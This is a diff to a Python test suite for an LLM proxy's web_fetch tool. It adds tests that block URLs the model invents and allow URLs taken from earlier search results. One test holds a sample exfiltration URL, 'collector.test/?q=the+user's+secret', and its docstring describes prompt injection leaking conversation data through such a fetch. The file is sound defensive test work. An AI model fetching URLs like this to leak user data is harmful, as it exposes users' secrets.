@@ -380,8 +380,9 @@ def test_fetch_error_stream(proxy: LiveProxy) -> None:
     proxy.upstream.enqueue(
         call_stream("web_fetch", {"url": "https://evil.test/"}), text_stream_reply("Blocked.")
     )
+    asked = [{"role": "user", "content": "Is https://evil.test/ safe?"}]
     events = raw_stream(
-        proxy, {"model": "m", "max_tokens": 100, "tools": [FETCH_TOOL], "messages": QUESTION}
+        proxy, {"model": "m", "max_tokens": 100, "tools": [FETCH_TOOL], "messages": asked}
     )
     (result,) = [
         e["content_block"]
@@ -395,6 +396,56 @@ def test_fetch_error_stream(proxy: LiveProxy) -> None:
     }
     (tool,) = tool_messages(proxy.upstream.chat_requests[1].body)
     assert "evil.test is blocked" in tool["content"]
+
+
+def test_fetch_refuses_a_url_the_model_made_up(proxy: LiveProxy) -> None:
+    """A prompt injection's way out: the conversation's words in a URL of its choosing."""
+    fetch = FakeFetch()
+    proxy.server.app_state.web_fetch = fetch
+    made_up = "https://collector.test/?q=the+user%27s+secret"
+    proxy.upstream.enqueue(
+        reply_json(completion({}, None, tool_calls=[tool_call("web_fetch", {"url": made_up})])),
+        reply_json(completion({}, "I could not fetch it.")),
+    )
+    message = create(
+        proxy.client(), model="m", max_tokens=100, tools=[FETCH_TOOL], messages=QUESTION
+    )
+    _, result, _ = message.content
+    assert result.type == "web_fetch_tool_result"
+    assert result.content.type == "web_fetch_tool_result_error"
+    assert result.content.error_code == "url_not_allowed"
+    assert fetch.calls == []  # never reached the fetcher
+    (tool,) = tool_messages(proxy.upstream.chat_requests[1].body)
+    assert "only URLs that are already in the conversation" in tool["content"]
+
+
+def test_fetch_takes_a_url_an_earlier_search_found(proxy: LiveProxy) -> None:
+    proxy.server.app_state.web_search = FakeSearch()
+    fetch = FakeFetch()
+    proxy.server.app_state.web_fetch = fetch
+    found = RESULTS[0].url
+    proxy.upstream.enqueue(
+        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "3.14"})])),
+        reply_json(completion({}, None, tool_calls=[tool_call("web_fetch", {"url": found})])),
+        reply_json(completion({}, "PEP 649 it is.")),
+    )
+    message = create(
+        proxy.client(),
+        model="m",
+        max_tokens=100,
+        tools=[SEARCH_TOOL, FETCH_TOOL],
+        messages=QUESTION,
+    )
+    kinds = [block.type for block in message.content]
+    assert kinds == [
+        "server_tool_use",
+        "web_search_tool_result",
+        "server_tool_use",
+        "web_fetch_tool_result",
+        "text",
+    ]
+    assert message.content[3].content.type == "web_fetch_result"  # type: ignore[union-attr]
+    assert [c["url"] for c in fetch.calls] == [found]
 
 
 # ------------------------------------------------------------------ mixing and history
